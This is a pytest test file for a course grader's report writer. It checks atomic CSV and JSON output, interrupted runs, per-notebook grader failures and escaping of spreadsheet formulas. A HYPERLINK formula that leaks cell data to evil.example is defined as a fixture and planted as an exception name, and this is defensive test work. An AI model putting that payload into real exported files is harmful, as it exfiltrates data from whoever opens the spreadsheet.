"""The report: written by the grader alone, whole or not at all, and safe to open in a spreadsheet.

The parts are tested without kernels; one notebook whose exception is named like a formula is
graded end to end, and the CSV on disk is compared with the table the grader printed.
"""

from __future__ import annotations

import csv
import json
import os
from collections.abc import Sequence
from pathlib import Path
from typing import Any, TextIO

import nbformat
import pytest

import course_helpers.grade as grade_cli
from course_helpers.grading.report import (
    COLUMNS,
    Row,
    csv_cell,
    write_atomically,
    write_csv,
    write_json,
)
from course_helpers.grading.sandbox import sandbox_problem
from course_helpers.grading.submissions import Submission

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _row(**changes: Any) -> Row:
    values: dict[str, Any] = {
        "learner": "alice",
        "notebook": "alice/ex04_retry.ipynb",
        "exercise": "ex04_retry",
        "check": "gives up",
        "passed": True,
        "message": "",
        "status": "ok",
        "cell_errors": "",
        "seconds": 1.0,
    }
    values.update(changes)
    return Row(**values)


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_is_escaped(start: str) -> None:
    assert csv_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("text", ["alice", "1.5", "error:ValueError", "", "a=b", "x-y"])
def test_other_cells_are_left_alone(text: str) -> None:
    assert csv_cell(text) == text


def test_every_column_is_escaped_on_disk(tmp_path: Path) -> None:
    row = _row(
        learner="@alice",
        notebook="-x.ipynb",
        check="+check",
        message=FORMULA,
        status="error:" + FORMULA,
        cell_errors=FORMULA + ";ValueError",
        delegates_to="=SUM(1)",
        note="\tnote",
    )
    path = tmp_path / "report.csv"
    write_csv([row], path)
    [written] = _read(path)
    assert written["learner"] == "'@alice" and written["notebook"] == "'-x.ipynb"
    assert written["check"] == "'+check" and written["message"] == "'" + FORMULA
    assert written["status"] == "error:" + FORMULA  # starts with "error:": nothing to run
    assert written["cell_errors"] == "'" + FORMULA + ";ValueError"
    assert written["delegates_to"] == "'=SUM(1)" and written["note"] == "'\tnote"
    assert list(written) == list(COLUMNS)


class _Broken(Exception):
    pass


def test_a_failed_write_leaves_the_previous_report_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "report.csv"
    write_csv([_row()], path)
    before = path.read_bytes()

    def fail_midway(self: csv.DictWriter[str], rows: Any) -> None:
        self.writerow(next(iter(rows)))
        raise _Broken("disk full")

    monkeypatch.setattr(csv.DictWriter, "writerows", fail_midway)
    with pytest.raises(_Broken):
        write_csv([_row(learner="bob"), _row(learner="carol")], path)
    assert path.read_bytes() == before
    assert sorted(os.listdir(tmp_path)) == ["report.csv"]  # no temporary file left


def test_the_json_summary_is_replaced_whole(tmp_path: Path) -> None:
    path = tmp_path / "out" / "summary.json"
    write_json({"a": 1}, path)
    write_json({"b": "é"}, path)
    assert json.loads(path.read_text(encoding="utf-8")) == {"b": "é"}
    assert os.listdir(path.parent) == ["summary.json"]
    assert path.stat().st_mode & 0o777 == 0o644

    def fail_midway(handle: TextIO) -> None:
        handle.write('{"partial": ')
        raise _Broken("killed")

    with pytest.raises(_Broken):
        write_atomically(path, fail_midway)
    assert json.loads(path.read_text(encoding="utf-8")) == {"b": "é"}
    assert os.listdir(path.parent) == ["summary.json"]


def _class(tmp_path: Path, learners: Sequence[str]) -> Path:
    for learner in learners:
        path = tmp_path / "class" / learner / "ex04_retry.ipynb"
        path.parent.mkdir(parents=True)
        nbformat.write(nbformat.v4.new_notebook(), path)
    return tmp_path / "class"


def test_the_report_is_written_only_at_the_end(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out, summary_path = tmp_path / "report.csv", tmp_path / "summary.json"
    seen: list[bool] = []

    def fake_grade(submissions: Sequence[Submission], *args: Any, **kwargs: Any) -> list[Row]:
        rows = []
        for item in submissions:
            rows.append(_row(learner=item.learner, notebook=item.label))
            kwargs["on_done"](item, rows[-1:])
            seen.append(out.exists() or summary_path.exists())
        return rows

    monkeypatch.setattr(grade_cli, "grade", fake_grade)
    root = _class(tmp_path, ["alice", "bob"])
    arguments = [str(root), "--out", str(out), "--json", str(summary_path), "--no-sandbox", "-q"]
    assert grade_cli.main(arguments) == 0
    assert seen == [False, False]
    assert [row["learner"] for row in _read(out)] == ["alice", "bob"]


def test_an_interrupted_run_keeps_what_was_graded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def interrupted(submissions: Sequence[Submission], *args: Any, **kwargs: Any) -> list[Row]:
        first = submissions[0]
        kwargs["on_done"](first, [_row(learner=first.learner, notebook=first.label)])
        raise KeyboardInterrupt

    monkeypatch.setattr(grade_cli, "grade", interrupted)
    root = _class(tmp_path, ["alice", "bob"])
    out, summary_path = tmp_path / "report.csv", tmp_path / "summary.json"
    arguments = [str(root), "--out", str(out), "--json", str(summary_path), "--no-sandbox", "-q"]
    assert grade_cli.main(arguments) == 130
    assert [row["learner"] for row in _read(out)] == ["alice"]
    data = json.loads(summary_path.read_text(encoding="utf-8"))
    assert data["complete"] is False and list(data["learners"]) == ["alice"]
    assert "graded so far" in capsys.readouterr().err
    assert sorted(os.listdir(tmp_path)) == ["class", "report.csv", "summary.json"]


FORMULA_ERROR = f"""\
raise type({FORMULA!r}, (Exception,), {{}})("a learner-chosen name")
"""


def test_a_formula_named_exception_is_escaped_end_to_end(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(FORMULA_ERROR)])
    path = tmp_path / "class" / "mallory" / "ex04_retry.ipynb"
    path.parent.mkdir(parents=True)
    nbformat.write(notebook, path)
    out, summary_path = tmp_path / "report.csv", tmp_path / "summary.json"
    flags = [] if sandbox_problem() is None else ["--no-sandbox"]
    code = grade_cli.main(
        [str(tmp_path / "class"), "--out", str(out), "--json", str(summary_path), "-q", *flags]
    )
    assert code == 0
    rows = _read(out)
    assert rows and {row["cell_errors"] for row in rows} == {"'" + FORMULA}
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
    # the file says what the console said: one line per notebook, same score and status
    printed = capsys.readouterr().out.splitlines()
    line = next(item for item in printed if item.startswith("mallory "))
    assert f"0/{len(rows)}" in line and rows[0]["status"] in line


def test_a_grader_failure_on_one_notebook_is_its_row_and_the_class_is_still_graded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from course_helpers.grading import batch
    from course_helpers.grading.execute import Execution
    from course_helpers.grading.submissions import find_submissions

    def run_notebook(notebook: Any, path: Path, *args: Any, **kwargs: Any) -> Execution:
        if "alice" in str(path):
            raise RuntimeError("a bug in the grader")
        return Execution(payload={"exercises": {}})

    monkeypatch.setattr(batch, "run_notebook", run_notebook)
    root = _class(tmp_path, ["alice", "bob"])
    rows = batch.grade(find_submissions([root]), batch.Settings(workers=1, sandbox=False))
    alice = [row for row in rows if row.learner == "alice"]
    bob = [row for row in rows if row.learner == "bob"]
    assert {row.status for row in alice} == {"grader_error"}
    assert "the grader failed on this notebook: RuntimeError: a bug in the grader" in (
        alice[0].message
    )
    assert bob and {row.status for row in bob} != {"grader_error"}


def test_a_stopped_notebook_is_explained_in_its_row() -> None:
    from course_helpers.grading.execute import Execution, Limits
    from course_helpers.grading.report import rows_for

    why = "code cell 2 (while True:) ran 70 s, past its 30 s limit, and ignored the interrupt"
    submission = Submission(Path("class/judy/ex04_retry.ipynb"), "judy", "judy/ex04_retry.ipynb")
    for run in (
        Execution(notebook_timed_out=True, explanation=why),
        Execution(kernel_died=True, explanation=why),
    ):
        rows = rows_for(submission, ["ex04_retry"], run, {"ex04_retry": ["a"]}, Limits())
        assert rows[0].message == why


def test_a_cell_skipped_on_a_second_run_is_noted_in_every_row() -> None:
    from course_helpers.grading.execute import Execution, Limits
    from course_helpers.grading.report import rows_for

    skipped = "code cell 9 (while True:) ignored its interrupt until --notebook-timeout; ..."
    submission = Submission(
        Path("class/judy/ex04_retry.ipynb"), "judy", "judy/ex04_retry.ipynb", note="metadata"
    )
    payload = {"exercises": {"ex04_retry": {"checks": [{"name": "a", "passed": True}]}}}
    run = Execution(payload=payload, timed_out_cells=[9], note=skipped)
    rows = rows_for(submission, ["ex04_retry"], run, {"ex04_retry": ["a"]}, Limits())
    assert [(row.status, row.passed, row.note) for row in rows] == [
        ("timeout(cell)", True, f"metadata; {skipped}")
    ]
